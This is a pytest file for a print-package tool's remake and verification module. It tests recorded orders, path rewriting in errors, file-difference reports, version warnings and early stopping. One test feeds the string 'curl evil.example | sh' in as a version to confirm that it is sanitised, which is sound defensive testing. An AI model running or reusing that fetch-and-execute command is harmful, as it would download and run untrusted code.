"""A package made again and held against what it holds: what is asked for, where faults lie, what is told."""

from __future__ import annotations

import os
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from keytag import __version__
from keytag.checks.approval import RULES as APPROVAL_RULES
from keytag.errors import InvalidDocumentError, UsageError
from keytag.findings import Finding, Severity, Where
from keytag.handoff import remake
from keytag.handoff.make import Package
from keytag.handoff.manifest import MANIFEST, SIGNATURE_FILE
from keytag.handoff.record import RECORD, Record, RecordedOptions
from keytag.imposition import Filling
from keytag.steps.check_editions import Draft
from keytag.steps.order import Order, PlanLimits
from keytag.steps.report import Today
from keytag.text.text import Text, same_text

DAY, TODAY = date(2026, 1, 15), date(2026, 6, 1)
PLAN = (Filling(3, (44,)),)
ASKED = RecordedOptions(
    60, "grid", "tumble", DAY, "s.yaml", "profile.icc", "label", max_plates=2, plan=PLAN, approval="required"
)
FILES = {"job/ward.yaml": b"a", "job/resolved/a.yaml": b"b", "sheets/sheets.pdf": b"c"}
NOTHING = Text("", "")
# A plan and evidence, of which nothing is asked here.
UNASKED: Any = None


def at(file: str, rule: str = "x", message: str = "m") -> Finding:
    """Return a finding in a file."""
    return Finding(rule, Severity.ERROR, same_text(message), NOTHING, Where(file, 2, 3))


def silent(*_step: object) -> None:
    """Show nothing."""


def test_what_was_asked_for_is_asked_again(tmp_path: Path) -> None:
    """Count, layout, backing, day, rules, plates and approval are the record's; shop and profile lie in job/."""
    order = remake.recorded_order(Record("ward.yaml", "a4", ASKED, "1"), tmp_path)
    assert order == Order(
        DAY,
        count=60,
        shop=str(tmp_path / "a4.yaml"),
        layout="grid",
        backing="tumble",
        profile=str(tmp_path / "profile.icc"),
        rules="label",
        limits=PlanLimits(max_plates=2, plan=PLAN),
        approval="required",
    )
    bare = Record("ward.yaml", "a4", RecordedOptions(None, None, None, DAY), "1")
    assert remake.recorded_order(bare, tmp_path).profile is None


def _make_again(
    monkeypatch: pytest.MonkeyPatch, findings: tuple[Finding, ...] = (), error: Exception | None = None
) -> tuple[tuple[Package | None, Today | None], dict[str, Any]]:
    """Make `FILES` again with all but the package's own steps left out; return also what those were given."""
    seen: dict[str, Any] = {}
    package = Package("x", {}, UNASKED, UNASKED)

    def make(path: Path, order: Order, step: object, *, watch: object) -> tuple[str, Draft, Package]:
        seen.update(path=path, order=order, step=step, watch=watch)
        seen["laid out"] = {each.relative_to(path.parent).as_posix() for each in path.parent.rglob("*.yaml")}
        if error is not None:
            raise error
        return "setup", Draft((), tuple(replace(each, where=_in(each, path.parent)) for each in findings)), package

    def judge(setup: str, judged: date, today: date, counted: tuple[object, ...]) -> Today:
        seen.update(judged=(setup, judged, today, counted))
        inside = at(str(seen["path"].parent / "ward.yaml"))
        return Today(today, judged, (inside, at("/etc/x"), replace(inside, where=None)))

    monkeypatch.setattr(remake, "make_package", make)
    monkeypatch.setattr(remake, "judge_today", judge)
    record = Record("ward.yaml", "a4", replace(ASKED, profile=None), "1")
    return remake.make_again(FILES, "x.zip", record, silent, TODAY), seen


def _in(finding: Finding, folder: Path) -> Where | None:
    return finding.where and replace(finding.where, file=str(folder / finding.where.file))


def test_its_job_is_laid_out_and_made(monkeypatch: pytest.MonkeyPatch) -> None:
    """What lies in job/ alone is laid out, made as asked and watched, judged by both days, and gone."""
    (package, now), seen = _make_again(monkeypatch)
    assert package is not None
    assert package.name == "x"
    assert seen["laid out"] == {"ward.yaml", "resolved/a.yaml"}
    assert (seen["path"].name, seen["order"].count, seen["step"]) == ("ward.yaml", 60, silent)
    assert seen["judged"] == ("setup", DAY, TODAY, ())
    assert not seen["path"].parent.exists()
    with pytest.raises(InvalidDocumentError, match="the rest was not made"):
        seen["watch"](dict.fromkeys("abcdef"))
    assert now is not None
    assert [str(each.where) for each in now.findings] == ["job/ward.yaml:2:3", "/etc/x:2:3", "None"]


def test_an_approval_of_another_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """What the gate finds of an approval stops it, told at its place in job/; other findings do not."""
    other = at("ward.yaml", "another-rule")
    assert _make_again(monkeypatch, (other,))[0][0] is not None
    found = at("ward.yaml", APPROVAL_RULES[0].name)
    with pytest.raises(InvalidDocumentError, match="The approval in the package does not fit it") as caught:
        _make_again(monkeypatch, (other, found))
    assert caught.value.findings == (replace(found, where=Where("job/ward.yaml", 2, 3)),)


def test_an_error_is_told_without_this_computers_folders(tmp_path: Path) -> None:
    """Message, hint, place and findings name files as the package does; those elsewhere are named as they are."""
    text = f"{tmp_path}{os.sep}ward.yaml in {tmp_path}"
    findings = (replace(at(str(tmp_path / "a" / "b.yaml"), message=text), hint=same_text(text)), at("/etc/x"))
    error = InvalidDocumentError(Text(text, f"en {text}"), findings, Where(str(tmp_path / "ward.yaml"), 1))
    found = remake.with_package_paths(error, tmp_path)
    assert found is error
    assert (error.message, error.hint) == (Text("job/ward.yaml in job", "en job/ward.yaml in job"), None)
    assert error.where == Where("job/ward.yaml", 1)
    first, second = error.findings
    assert (first.message, first.hint) == (same_text("job/ward.yaml in job"),) * 2
    assert (first.where, second.where) == (Where("job/a/b.yaml", 2, 3), Where("/etc/x", 2, 3))
    plain = UsageError(same_text("x"), same_text(text))
    remake.with_package_paths(plain, tmp_path)
    assert (plain.hint, plain.where) == (same_text("job/ward.yaml in job"), None)


def test_todays_findings_become_warnings() -> None:
    """What only today's rules find is no error of a package; without a day there is none."""
    assert remake.as_warnings(None) == ()
    assert remake.as_warnings(Today(TODAY, DAY, (at("a"),))) == (replace(at("a"), severity=Severity.WARNING),)
    assert len(remake.as_warnings(Today(TODAY, DAY, (at("a"),) * 1002))) == 1001


AGAIN = dict.fromkeys(("1-up/a.pdf", "cut/a.pdf", "mould/a.pdf", "sheets/a.pdf", "zz.pdf", RECORD, "t.txt"), b"a")


def _told(files: dict[str, bytes], version: str = __version__) -> list[str]:
    return [each.message.en for each in remake.package_differences(files, AGAIN, version)]


def test_what_is_alike_is_not_told() -> None:
    """Manifest and signature seal a package and are no part of what its job makes; whatever version made it."""
    sealed = {**AGAIN, MANIFEST: b"x", SIGNATURE_FILE: b"y"}
    assert remake.package_differences(sealed, AGAIN, __version__) == ()
    assert remake.package_differences(sealed, AGAIN, "9.9.9") == ()


def test_what_is_extra_missing_or_changed_is_counted() -> None:
    """All that differs is one figure; contents, files too many and files too few are named apart."""
    changed = {**AGAIN, "t.txt": b"x"}
    assert _told(changed) == ["Made again, 1 file differs; other contents: t.txt."]
    more = {**changed, "b": b"", "a": b""}
    del more["1-up/a.pdf"]
    assert _told(more) == [
        "Made again, 4 files differ; other contents: t.txt.",
        "Too many files, 2: a, b.",
        "Missing files, 1: 1-up/a.pdf.",
    ]
    assert _told({**AGAIN, "b": b""})[0] == "Made again, 1 file differs; other contents: –."


def test_four_pdfs_are_looked_into_those_for_the_press_first(monkeypatch: pytest.MonkeyPatch) -> None:
    """Sheets come first, then one-ups, cut and moulds; a fifth is not looked into."""
    looked: list[str] = []

    def ways(found: bytes, made: bytes) -> tuple[Text, ...]:
        looked.append(found.decode())
        assert made == b"a"
        return (Text("một", "one"), Text("hai", "two")) if found == b"sheets/a.pdf" else ()

    monkeypatch.setattr(remake, "list_differences", ways)
    spoilt = {name: name.encode() for name in AGAIN if name.endswith(".pdf")}
    told = remake.package_differences({**AGAIN, **spoilt}, AGAIN, __version__)
    assert looked == ["sheets/a.pdf", "1-up/a.pdf", "cut/a.pdf", "mould/a.pdf"]
    assert (told[1].message.vi, told[1].message.en) == (
        "sheets/a.pdf khác: một; hai.",
        "sheets/a.pdf differs: one; two.",
    )
    assert told[2].message.en.startswith("1-up/a.pdf: all that can be read in it is the same")
    assert "uv sync" in told[2].hint.en
    assert [len(_told({**AGAIN, **spoilt}, version)) for version in (__version__, "9.9.9")] == [5, 2]


def test_a_package_of_another_version_is_no_better() -> None:
    """Where its record alone differs, that is said; else which version it names comes first, and what to do."""
    record = {**AGAIN, RECORD: b"x"}
    (found,) = remake.package_differences(record, AGAIN, "9.9.9")
    assert found.message.en.startswith(
        f"{RECORD} names keytag 9.9.9, but every other file is as keytag {__version__}"
    )
    assert found.hint.en.startswith("Verify it with keytag 9.9.9 itself, or ask the sender")
    assert _told(record) == [f"Made again, 1 file differs; other contents: {RECORD}."]
    for more in ({**record, "x": b""}, {**record, "t.txt": b""}):
        first = _told(more, "9.9.9")[0]
        assert first.startswith(f"The package says that keytag 9.9.9 made it, and this is keytag {__version__}, ")
        assert "Made again, 2 files differ" in first
    assert remake.version_advice(__version__) is None
    assert remake.with_version(__version__, NOTHING) is NOTHING
    odd = remake.version_advice("curl evil.example | sh")
    assert odd is not None
    assert "keytag ? itself" in odd.en
    finding = remake.job_errors_finding(Record("a", "b", ASKED, "9.9.9"))
    assert finding.message.en.endswith("The job in the package has errors.")
    assert finding.hint == remake.version_advice("9.9.9")


def test_six_names_are_listed() -> None:
    """Of more names the first six say enough, and a very long one is shortened."""
    assert remake.list_names(list("abcdef")) == "a, b, c, d, e, f"
    assert remake.list_names(list("abcdefg")) == "a, b, c, d, e, f …"
    assert len(remake.list_names(["x" * 10_000])) < 200


def test_litter_that_the_manifest_names_is_kept(tmp_path: Path) -> None:
    """A folder without a manifest is opened, too; litter is left out, but what a manifest names is none."""
    (tmp_path / "Thumbs.db").write_bytes(b"x")
    (tmp_path / "a").write_bytes(b"y")
    opened = remake.open_package(tmp_path)
    assert (opened.files, opened.litter, opened.strays, opened.container) == (
        {"a": b"y"},
        ("Thumbs.db",),
        (),
        None,
    )
    (tmp_path / MANIFEST).write_text(f"{'0' * 64}  Thumbs.db\n", encoding="utf-8")
    assert remake.open_package(tmp_path).litter == ()


DRAWN = {f"{i}.pdf": b"%d" % i * 4000 for i in range(9)}


def _differing(count: int) -> dict[str, bytes | None]:
    return {name: data + b"x" * (i < count) for i, (name, data) in enumerate(DRAWN.items())}


def test_making_again_goes_on_while_little_differs() -> None:
    """Some files that differ, or few slots to be looked at, are no reason to leave the rest untold."""
    watch = remake.EarlyStop(DRAWN)
    watch(_differing(0), 10_000_000)
    watch(_differing(5))
    watch(_differing(5), 1000)
    watch(dict.fromkeys(DRAWN), 10_000_000)


@pytest.mark.parametrize(
    ("made", "slots"),
    [
        (_differing(6), 0),
        (_differing(1), 1001),
        ({f"{i}.png": None for i in range(6)}, 0),
        ({f"{i}.png": b"" for i in range(6)}, 0),
        ({"a.png": None}, 1001),
    ],
    ids=["six files", "one file of many slots", "six that are missing", "six more", "one that is missing"],
)
def test_making_again_ends_where_much_differs(made: dict[str, bytes | None], slots: int) -> None:
    """Six files that differ, or one where a great many slots are left to look at, are enough."""
    with pytest.raises(InvalidDocumentError, match="the rest was not made") as caught:
        remake.EarlyStop(DRAWN)(made, slots)
    assert [finding.rule for finding in caught.value.findings] == ["package-says-what-its-job-says"]


def test_more_files_than_its_editions_can_have_are_enough() -> None:
    """Thousands of files more than a job of so many editions makes stop it before one of them is drawn."""
    named: dict[str, bytes | None] = dict.fromkeys(DRAWN)
    remake.EarlyStop({**DRAWN, **{str(i): b"" for i in range(1000 + 10 * 9 - 9)}})(named)
    with pytest.raises(InvalidDocumentError, match="1091 files are too many"):
        remake.EarlyStop({**DRAWN, **{str(i): b"" for i in range(1000 + 10 * 9 - 8)}})(named)


def test_what_is_too_small_for_a_file_is_none() -> None:
    """A file of next to nothing under the name of a one-up is not taken for one that may be drawn alike."""
    names: dict[str, bytes | None] = {f"{i}.pdf": None for i in range(6)}
    remake.EarlyStop(dict.fromkeys(names, b"x" * 4000))(names)
    with pytest.raises(InvalidDocumentError):
        remake.EarlyStop(dict.fromkeys(names, b"x" * 3999))(names)
